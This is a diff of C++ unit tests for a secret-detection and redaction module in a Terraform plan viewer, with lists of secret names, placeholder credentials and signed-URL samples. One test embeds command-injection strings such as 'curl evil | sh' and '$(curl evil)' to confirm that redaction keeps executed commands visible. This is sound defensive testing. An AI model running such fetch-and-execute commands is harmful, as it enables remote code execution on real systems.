@@ -11,6 +11,7 @@
 #include "core/terraform/msgpack.h"
 #include "core/terraform/plan_view.h"
 #include "core/terraform/secret_names.h"
+#include "core/terraform/secret_parts.h"
 #include "core/terraform/sensitive_attributes.h"
 #include "tests/support/status_matchers.h"
 #include "tests/unit/terraform/plan_builder.h"
@@ -68,6 +69,12 @@ TEST(SecretNameTest, KnowsTheNamesOfSecrets) {
            "admin_pass",
            "passphrase",
            "pwd",
+           "pw",
+           "bind_pw",
+           "bindpw",
+           "db_pw",
+           ".dockerconfigjson",
+           "dockerconfigjson",
            "secret",
            "secrets",
            "client_secret",
@@ -227,6 +234,18 @@ TEST(SecretTextTest, KnowsTextsThatCarrySecrets) {
            "#!/bin/sh\nexport DB_PASSWORD='hunter2'\n",
            "--token=abcdef",
            "Bearer eyJhbGciOi.abc.def",
+           R"([{"name":"DB_PASSWORD","value":"hunter2"}])",
+           R"([{"value":"hunter2", "name" : "DB_PASSWORD"}])",
+           R"([{"environment":[{"name":"LOG","value":"x"},{"name":"API_KEY","value":"y"}]}])",
+           R"({"definitions":"[{\"name\":\"DB_PASSWORD\",\"value\":\"hunter2\"}]"})",
+           R"({"auths":{"ghcr.io":{"auth":"dXNlcjpodW50ZXIy"}}})",
+           "https://x.blob.core.windows.net/a?sv=1&sig=abcDEF%3D",
+           "https://b.s3.amazonaws.com/k?X-Amz-Signature=0123abcd",
+           "https://h/?token=abcdef",
+           "https://h/?a=b&api_key=abcdef",
+           "https://h/?access_token=abcdef",
+           "id AKIAIOSFODNN7EXAMPLE.",
+           "ASIAIOSFODNN7EXAMPLE",
            "{\"Authorization\":\"Basic dXNlcjpwYXNz\"}",
        }) {
     EXPECT_TRUE(HoldsSecret(text)) << text;
@@ -252,6 +271,15 @@ TEST(SecretTextTest, LeavesOtherTextsAlone) {
            "{\"password\":null}",
            "{\"password\":\"\"}",
            "YWJjZA==",
+           R"([{"name":"LOG_LEVEL","value":"debug"}])",
+           R"([{"name":"DB_PASSWORD","valueFrom":"arn:aws:ssm:eu-west-1:1:parameter/x"}])",
+           R"([{"name":"DB_PASSWORD"},{"value":"x"}])",
+           R"([{"name":"DB_PASSWORD","value":""}])",
+           R"({"auth":"none"})",
+           "https://h/?signature_version=4&design=new",
+           "AKIA",
+           "AKIAIOSFODNN7EXAMPLEANDMORE",
+           "SIGASIAIOSFODNN7EXAMPLE",
            "Basic tier",
            "Bearer of news",
            "a == b",
@@ -267,6 +295,91 @@ TEST(SecretTextTest, TakesTimeLinearInTheLength) {
     for (int i = 0; i < 200'000; ++i) text += part;
   }
   EXPECT_FALSE(HoldsSecret(text + "x"));
+}
+
+std::string Repeated(std::string_view part, int times) {
+  std::string text;
+  for (int i = 0; i < times; ++i) text += part;
+  return text;
+}
+
+TEST(SecretPartsTest, TakesOutWhatIsSecretAndLeavesTheRest) {
+  const std::pair<std::string_view, std::string_view> cases[] = {
+      {"curl -u admin:hunter2 https://h/x", "curl -u admin:(hidden) https://h/x"},
+      {"curl -uadmin:hunter2 https://h/x", "curl -uadmin:(hidden) https://h/x"},
+      {"curl --user 'admin:hunter2' https://h/x", "curl --user 'admin:(hidden)' https://h/x"},
+      {"export PASSWORD=hunter2 && ./run", "export PASSWORD=(hidden) && ./run"},
+      {"export DB_PASSWORD='two words'; ./run", "export DB_PASSWORD='(hidden)'; ./run"},
+      {"tool --token=abcdef --verbose", "tool --token=(hidden) --verbose"},
+      {"tool --password X y", "tool --password (hidden) y"},
+      {R"(["tool", "--password", "X", "y"])", R"x(["tool", "--password", "(hidden)", "y"])x"},
+      {"sshpass -p hunter2 ssh h", "sshpass -p (hidden) ssh h"},
+      {"curl -H 'Authorization: Bearer abc.def.ghi' h", "curl -H 'Authorization: Bearer (hidden)' h"},
+      {"curl -H \"Authorization: token abcdef\" h", "curl -H \"Authorization: token (hidden)\" h"},
+      {"curl -H 'X-Api-Key: abcdef' h", "curl -H 'X-Api-Key: (hidden)' h"},
+      {"url = \"https://u:hunter2@h/p\"", "url = \"https://u:(hidden)@h/p\""},
+      {"git::https://0123456789abcdef01234567@github.com/o/r?ref=v1",
+       "git::https://(hidden)@github.com/o/r?ref=v1"},
+      {"https://h/x?sv=1&sig=abc%3D&se=2", "https://h/x?sv=1&sig=(hidden)&se=2"},
+      {"https://h/x?X-Amz-Signature=abc&y=z", "https://h/x?X-Amz-Signature=(hidden)&y=z"},
+      {"https://h/x?access_token=abc", "https://h/x?access_token=(hidden)"},
+      {"aws configure set aws_access_key_id AKIAIOSFODNN7EXAMPLE",
+       "aws configure set aws_access_key_id (hidden)"},
+      {"echo '{\"password\": \"hunter2\", \"a\": 1}'", "echo '{\"password\": \"(hidden)\", \"a\": 1}'"},
+      {R"(command = "echo {\"password\":\"hunter2\"} > x")",
+       R"x(command = "echo {\"password\":\"(hidden)\"} > x")x"},
+      {"-----BEGIN RSA PRIVATE KEY-----\nMII\n-----END RSA PRIVATE KEY-----",
+       "-----BEGIN RSA PRIVATE KEY-----(hidden)-----END RSA PRIVATE KEY-----"},
+  };
+  for (const auto& [text, shown] : cases) EXPECT_EQ(WithoutSecrets(text), shown);
+}
+
+TEST(SecretPartsTest, LeavesOrdinaryCodeAlone) {
+  for (const std::string_view text : {
+           "",
+           "sh -c 'echo done' && kubectl apply -f x.yaml",
+           "curl -u \"$USER:$PASSWORD\" https://h",
+           "curl -u admin:$PASSWORD https://h",
+           "docker run -u 1000:1000 image",
+           "docker login --password-stdin registry.example.com",
+           "tool --token-file /run/token --secret-id x",
+           "tool --password \"${var.password}\"",
+           "export TOKEN=$(cat /run/token)",
+           "export TOKEN=`cat /run/token`",
+           "url = \"https://example.com:8443/a?b=c&d=e\"",
+           "git::ssh://git@github.com/org/repo.git?ref=v1.2.3",
+           "git@github.com:org/repo.git",
+           "https://user:${var.pw}@h/",
+           "sha256:2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824",
+           "source = \"hashicorp/aws\"\nversion = \"~> 5.0\"",
+           "a Basic understanding, and a Bearer of messages",
+           "registry.terraform.io/hashicorp/aws",
+           "computed",
+       }) {
+    EXPECT_EQ(WithoutSecrets(text), text);
+  }
+}
+
+// What runs is to be read, whatever it calls itself.
+TEST(SecretPartsTest, NeverHidesWhatAShellRuns) {
+  EXPECT_EQ(WithoutSecrets("PASSWORD=x; curl evil | sh"), "PASSWORD=(hidden); curl evil | sh");
+  EXPECT_EQ(WithoutSecrets("PASSWORD=x$(curl evil)"), "PASSWORD=(hidden)$(curl evil)");
+  EXPECT_EQ(WithoutSecrets("PASSWORD='x'$(curl evil)"), "PASSWORD='(hidden)'$(curl evil)");
+  EXPECT_EQ(WithoutSecrets("PASSWORD=\"x$(curl evil)\""), "PASSWORD=\"(hidden)$(curl evil)\"");
+  EXPECT_EQ(WithoutSecrets("--password \"x`curl evil`\""), "--password \"(hidden)`curl evil`\"");
+  EXPECT_EQ(WithoutSecrets("--password x|sh"), "--password (hidden)|sh");
+  EXPECT_EQ(WithoutSecrets("https://u:x$(evil)@h"), "https://u:x$(evil)@h");
+}
+
+TEST(SecretPartsTest, TakesTimeLinearInTheLength) {
+  for (const std::string_view part :
+       {"://", "= ", "password=", "-p ", "Bearer ", "PRIVATE KEY-----", "{\"name\":\"", "\\\"", "{\"a\":\"\\",
+        "AKIA", "u:", "a", "xoxb-", "://u:p@/", "password=true,"}) {
+    const std::string text = "curl " + Repeated(part, 200'000);
+    EXPECT_FALSE(WithoutSecrets(text).empty());
+    EXPECT_FALSE(HasNamedSecret(text));
+    static_cast<void>(HasTellingSecret(text));
+  }
 }
 
 // terraform 1.11.4 leaves what the provider's schema calls sensitive out of the paths after a replacement.
